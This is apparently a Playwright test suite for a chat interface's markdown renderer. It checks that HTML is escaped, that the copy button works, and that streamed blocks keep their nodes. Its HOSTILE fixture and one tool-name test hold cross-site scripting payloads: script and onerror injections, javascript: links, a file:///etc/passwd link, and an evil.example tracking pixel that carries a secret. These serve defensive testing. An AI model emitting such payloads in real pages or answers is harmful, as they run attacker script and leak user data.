from playwright.sync_api import Page, Request, expect

from famulus.testing.fake_gateway import FakeGateway

HOSTILE = """<script>document.title = "owned"</script>
<img src=x onerror="document.title = 'owned'">
<style>body { display: none }</style>
<a href="javascript:document.title='owned'" onclick="document.title='owned'">raw link</a>

[script link](javascript:document.title='owned') [data](data:text/html,<script>1</script>)
[file](file:///etc/passwd) [relative](/api/logout) <javascript:alert(1)>

![tracking pixel](https://evil.example/pixel.png?secret=1)

<https://example.org/a> https://example.org/b [mail](mailto:a@example.org)

```html
</code></pre><script>document.title = "owned"</script>
```

| a | <b>b</b> |
|---|---:|
| `<i>` | <iframe src="https://evil.example"></iframe> |

&lt;script&gt; &amp; ok
"""

DOCUMENT = """## Plan

1. First
2. Second
   - nested

> quoted

| Item | Price |
|:-----|------:|
| Milk | 1.20 |

```python
def hello():  # greet
    return "hi" * 3
```

Use `x` and ~~y~~.
"""


def ask(page: Page, gateway: FakeGateway, answer: str) -> None:
    gateway.script["show"] = [{"type": "assistant_delta", "content": answer}]
    page.get_by_role("textbox", name="Message").fill("show")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("article", name="Famulus").locator("footer")).to_be_visible()


def test_hostile_content_stays_text_and_reaches_no_other_host(
    chat: Page, gateway: FakeGateway
) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    chat.on("request", note)
    ask(chat, gateway, HOSTILE)
    answer = chat.get_by_role("article", name="Famulus")
    expect(answer).to_contain_text("<script>document.title")
    expect(answer).to_contain_text("<script> & ok")
    expect(answer.locator("script, img, style, iframe, object, form, i, [onclick]")).to_have_count(
        0
    )
    addresses = answer.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert addresses == [
        "https://evil.example/pixel.png?secret=1",
        "https://example.org/a",
        "https://example.org/b",
        "mailto:a@example.org",
        "https://evil.example/",  # an address in plain text, of the iframe that is not one
    ]
    for link in answer.locator("a").all():
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(link).to_have_attribute("target", "_blank")
    expect(answer.get_by_role("link", name="Image: tracking pixel")).to_be_visible()
    assert "owned" not in chat.title()
    assert [url for url in asked if not url.startswith(gateway.url)] == []


def test_hostile_names_of_tools_conversations_and_messages_stay_text(
    chat: Page, gateway: FakeGateway
) -> None:
    evil = '<img src=x onerror="document.title=1">'
    call = {"call_id": "1", "name": evil, "arguments": evil}
    gateway.script[evil] = [
        {"type": "tool_started", **call},
        {"type": "tool_finished", "call_id": "1", "ok": False, "summary": evil},
    ]
    chat.get_by_role("textbox", name="Message").fill(evil)
    chat.get_by_role("button", name="Send").click()
    expect(chat.locator("details.tool b")).to_have_text(evil)
    expect(chat.get_by_role("article", name="You")).to_have_text(evil)
    expect(chat.get_by_role("heading", level=1)).to_have_text(evil)
    expect(chat.locator("#log img, #sessions img")).to_have_count(0)


def test_markdown_becomes_headings_lists_tables_and_code(chat: Page, gateway: FakeGateway) -> None:
    ask(chat, gateway, DOCUMENT)
    answer = chat.get_by_role("article", name="Famulus")
    expect(answer.get_by_role("heading", name="Plan")).to_be_visible()
    expect(answer.locator("ol > li")).to_have_count(2)
    expect(answer.locator("ol ul > li")).to_have_text("nested")
    expect(answer.locator("blockquote")).to_have_text("quoted")
    expect(answer.get_by_role("cell", name="1.20")).to_have_css("text-align", "right")
    expect(answer.locator(".code-head span")).to_have_text("python")
    expect(answer.locator("pre code")).to_have_text(
        'def hello():  # greet\n    return "hi" * 3', use_inner_text=True
    )
    expect(answer.locator(".hl-comment")).to_have_text("# greet")
    expect(answer.locator("s")).to_have_text("y")


def test_the_copy_button_copies_the_code_alone(chat: Page, gateway: FakeGateway) -> None:
    chat.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(chat, gateway, DOCUMENT)
    chat.get_by_role("button", name="Copy code").click()
    expect(chat.get_by_role("button", name="Copied")).to_be_visible()
    copied = chat.evaluate("navigator.clipboard.readText()")
    assert copied == 'def hello():  # greet\n    return "hi" * 3\n'


def test_a_huge_answer_is_shown_whole_and_the_page_stays_usable(
    chat: Page, gateway: FakeGateway
) -> None:
    paragraph = "word " * 200 + "\n\n" + "[" * 500 + "\n\n" + "x" * 3000 + "\n\n"
    ask(chat, gateway, paragraph * 60 + "the very end")
    expect(chat.get_by_text("the very end")).to_be_in_viewport()
    assert chat.evaluate("document.documentElement.scrollWidth <= innerWidth")
    box = chat.get_by_role("textbox", name="Message")
    box.fill("still alive")
    box.press("Enter")
    expect(chat.get_by_text("You: still alive")).to_be_in_viewport()


def test_blocks_that_are_finished_stay_the_same_nodes_while_text_streams(
    chat: Page, gateway: FakeGateway
) -> None:
    chat.evaluate(
        """async () => {
            const { MarkdownView } = await import("/static/markdown.js");
            window.view = new MarkdownView();
            view.show("# One\\n\\nTwo");
            window.first = view.node.firstChild;
            view.show("# One\\n\\nTwo and *three*");
        }"""
    )
    assert chat.evaluate("view.node.firstChild === first")
    assert chat.evaluate("view.node.textContent") == "OneTwo and three"
